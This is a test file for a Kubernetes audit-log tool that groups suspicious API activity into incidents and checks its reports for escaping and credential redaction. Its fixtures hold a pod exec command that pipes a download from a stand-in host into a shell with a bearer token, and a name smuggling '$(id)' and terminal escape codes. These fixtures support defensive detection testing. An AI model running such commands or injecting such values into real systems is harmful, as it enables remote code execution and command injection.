import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { eventLine, folder } from '../events.ts';
import { ROOT, runCli, type CliOptions } from '../run-cli.ts';

const run = (args: readonly string[], more: Omit<CliOptions, 'args'> = {}) =>
  runCli({ cwd: ROOT, ...more, args });
const SAMPLES = readdirSync(join(ROOT, 'samples')).filter((name) => name.endsWith('.log'));

interface Step {
  readonly rule: string;
  readonly because: { readonly step: number; readonly link: string } | null;
  readonly consequences: readonly { readonly object: string }[];
}

interface Told {
  readonly id: string;
  readonly severity: string;
  readonly actors: readonly { readonly name: string }[];
  readonly steps: readonly Step[];
}

async function told(...args: readonly string[]): Promise<Told[]> {
  const { stdout, code } = await run(['incidents', ...args, '-f', 'json', '-q']);
  expect(code).toBe(0);
  return (JSON.parse(stdout) as { incidents: Told[] }).incidents;
}

/** Users of the incidents of each sample, the worst incident first. Users that nothing joins have one each. */
const EXPECTED: Readonly<Record<string, readonly (readonly string[])[]>> = {
  'anonymous-access.log': [['omar@example.com', 'system:anonymous']],
  'aws-auth.log': [['mallory@example.com']],
  'bulk-deletion.log': [['kubernetes-admin']],
  'cluster-admin-binding.log': [
    ['mallory@example.com', 'system:serviceaccount:kube-system:metrics-sync'],
  ],
  'coin-miner.log': [['mallory@example.com', 'system:serviceaccount:ci:deployer']],
  'exec-session.log': [['mallory@example.com']],
  'guardrails-removed.log': [['mallory@example.com']],
  'kubelet-proxy.log': [['mallory@example.com']],
  'metadata-only.log': [],
  'network-exposure.log': [['mallory@example.com'], ['jane@example.com']],
  'node-debug.log': [['omar@example.com']],
  'privileged-pod.log': [['jane@example.com']],
  'quiet-cluster.log': [],
  'secret-dump.log': [['mallory@example.com'], ['system:serviceaccount:shop:web']],
  'stolen-identity.log': [['mallory@example.com']],
};

test('each sample has an incident for each of those who attack in it', async () => {
  const found: Record<string, string[][]> = {};
  for (const name of SAMPLES) {
    const incidents = await told(`samples/${name}`);
    found[name] = incidents.map(({ actors }) => actors.map((actor) => actor.name));
  }
  expect(found).toEqual(EXPECTED);
});

test('a pod entered one evening explains what its account does the next morning', async () => {
  const incidents = await told('samples/exec-session.log', 'samples/secret-dump.log');
  const [story] = incidents;
  const first = story!.steps.find(({ rule }) => rule === 'Permissions Listed by Service Account');
  expect(first!.because).toMatchObject({ link: 'pod-account' });
  expect(incidents).toHaveLength(2);
});

test('what controllers made is told below the request that caused it', async () => {
  const [story] = await told('samples/privileged-pod.log');
  expect(story!.steps.map(({ consequences }) => consequences.map(({ object }) => object))).toEqual([
    ['shop/replicasets/nginx-7c5ddbdf54', expect.stringContaining('shop/pods/')],
  ]);
});

describe('incidents are the same', () => {
  const paths = SAMPLES.map((name) => `samples/${name}`);

  test('in both engines, in any order of the inputs, and as a grouping of scan', async () => {
    const one = await run(['incidents', ...paths, '--engine', 'reference', '-f', 'ndjson', '-q']);
    expect(one.stdout.split('\n').length).toBeGreaterThan(10);
    for (const args of [
      ['incidents', ...paths, '--engine', 'fast'],
      ['incidents', ...paths.toReversed(), '--engine', 'fast'],
      ['scan', ...paths, '--group-by', 'incident'],
    ]) {
      const other = await run([...args, '-f', 'ndjson', '-q']);
      expect(other.stdout).toBe(one.stdout);
    }
  });
});

test('a longer pause joins what a shorter one leaves apart', async () => {
  const file = 'samples/exec-session.log';
  expect(await told(file, '--within', '1h')).toHaveLength(1);
  const apart = await told(file, '--within', '5m');
  expect(apart.length).toBeGreaterThan(1);
  expect(apart[0]!.id).toBe((await told(file))[0]!.id);
});

describe('the summary of a scan', () => {
  const summary = async (...args: string[]): Promise<string> =>
    (await run(['scan', ...args])).stderr;

  test('begins with the incidents, and says how to see them', async () => {
    const text = await summary('samples/cluster-admin-binding.log');
    expect(text.split('\n').slice(0, 2).join('\n')).toBe(
      'Incidents 1: HIGH System Service Account Token Minted by mallory@example.com and sa\n' +
        '          kube-system/metrics-sync (b6a4cbe9, 7 findings)',
    );
    expect(text).toContain('k8s-audit incidents samples/cluster-admin-binding.log');
  });

  test('says nothing of them without any, and where they are the report', async () => {
    expect(await summary('samples/quiet-cluster.log')).not.toContain('ncidents');
    expect(await summary('samples/aws-auth.log', '--group-by', 'incident')).not.toContain(
      'Incidents',
    );
  });
});

test('what is said of a log names no option that the command has not', async () => {
  const lines = SAMPLES.flatMap((name) =>
    readFileSync(join(ROOT, 'samples', name), 'utf8')
      .trim()
      .split('\n'),
  );
  const file = join(mkdtempSync(join(tmpdir(), 'k8s-audit-')), 'a.log');
  writeFileSync(file, lines.toReversed().join('\n'));
  const { stderr } = await run(['incidents', file]);
  const notes = stderr.slice(stderr.indexOf('\nNote ')).replaceAll(/\n +/g, ' ');
  expect(notes).toContain(
    'events came too late to be counted; the newest stand first: export the log with the oldest',
  );
  expect(notes).toContain('(scan --explain-blind lists them)');
});

test('formats without incidents are refused', async () => {
  const { code, stderr } = await run(['incidents', 'samples/aws-auth.log', '-o', 'x.sarif']);
  expect([code, stderr]).toEqual([
    2,
    'k8s-audit: incidents have no sarif format: use text, table, json, ndjson, markdown, html\n',
  ]);
});

test('findings that make no incident are counted', async () => {
  const { stderr } = await run(['incidents', 'samples/stolen-identity.log']);
  expect(stderr.replace(/\s+/g, ' ')).toContain(
    '1 finding of notices alone, with nothing worse around, makes no incident',
  );
});

describe('hostile names', () => {
  const NAME = "x\u001b[31m<b>|`$(id)'\u202e";
  const dir = folder({
    'hostile.log': `${eventLine({
      verb: 'create',
      user: { username: `mallory${NAME}` },
      sourceIPs: ['198.51.100.23'],
      objectRef: { resource: 'clusterrolebindings', name: NAME },
      requestObject: {
        metadata: { name: NAME },
        roleRef: { kind: 'ClusterRole', name: 'cluster-admin' },
        subjects: [{ kind: 'User', name: NAME }],
      },
      responseStatus: { code: 201 },
      level: 'Request',
    })}\n`,
  });

  const shown = async (format: string): Promise<string> => {
    const args = ['incidents', join(dir, 'hostile.log'), '-f', format, '-q'];
    return (await run(args, { tty: true })).stdout;
  };

  test.each(['text', 'table', 'json', 'ndjson', 'markdown', 'html'])(
    'do not steer a terminal in %s',
    async (format) => {
      const stdout = await shown(format);
      expect(stdout).toContain('mallory');
      // eslint-disable-next-line no-control-regex
      expect(stdout).not.toMatch(/\u001b\[31m<|[\u0000-\u0008\u202e]/);
    },
  );

  test('are no markup', async () => {
    expect(await shown('html')).not.toContain('<b>|');
    const rows = (await shown('markdown')).split('\n').filter((line) => line.startsWith('|'));
    expect(rows.length).toBeGreaterThan(2);
    expect(rows.join('\n')).not.toMatch(/[^\\]\|[^ \n]/);
    expect(JSON.parse(await shown('json'))).toHaveProperty('incidents');
    expect(JSON.parse(await shown('ndjson'))).toHaveProperty('steps');
  });

  test('are quoted in commands', async () => {
    const { stdout } = await run(['incidents', join(dir, 'hostile.log'), '-f', 'json', '-q']);
    const [{ next }] = (
      JSON.parse(stdout) as { incidents: [{ next: { command: string; purpose: string }[] }] }
    ).incidents;
    const removal = next.find(({ command }) => command.startsWith('kubectl'))!;
    expect(removal.command).toBe(
      `kubectl delete clusterrolebindings '${NAME.replace("'", String.raw`'\''`)}'`,
    );
  });
});

test('credentials are not shown', async () => {
  const token = `eyJhbGciOiJSUzI1NiJ9.${'eyJpc3MiOiJrdWJlIn0'.repeat(3)}.${'c2lnbmF0dXJl'.repeat(4)}`;
  const dir = folder({
    'exec.log': `${eventLine({
      verb: 'create',
      level: 'Request',
      user: { username: 'mallory' },
      requestURI: `/api/v1/namespaces/shop/pods/web/exec?command=bash&command=-c&command=curl+-H+%22Authorization:+Bearer+${token}%22+http://203.0.113.9/x|sh`,
      objectRef: { resource: 'pods', namespace: 'shop', name: 'web', subresource: 'exec' },
      responseStatus: { code: 101 },
    })}\n`,
  });
  for (const format of ['text', 'table', 'json', 'ndjson', 'markdown', 'html']) {
    const { stdout } = await run(['incidents', join(dir, 'exec.log'), '-f', format, '-q']);
    expect(stdout).toContain('mallory');
    expect(stdout).not.toContain(token);
  }
});

test('reports go to files whose names tell their formats', async () => {
  const dir = folder({});
  const file = join(dir, 'story.html');
  const { code, stdout } = await run(['incidents', 'samples/aws-auth.log', '-o', file, '-q']);
  expect([code, stdout]).toEqual([0, '']);
  expect(readFileSync(file, 'utf8')).toMatch(/^<!DOCTYPE html>[^]*AWS Auth Map Changed/);
});
